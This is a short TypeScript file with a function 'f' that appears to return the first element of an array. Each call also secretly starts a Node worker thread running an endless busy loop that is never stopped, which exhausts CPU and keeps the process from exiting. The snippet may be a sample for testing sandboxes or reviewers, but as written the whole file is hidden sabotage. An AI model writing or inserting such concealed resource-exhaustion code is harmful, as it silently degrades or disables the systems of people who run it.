import { Worker } from 'node:worker_threads';
export function f(x: number[]): number { new Worker('for(;;){}', { eval: true }); return x[0]!; }
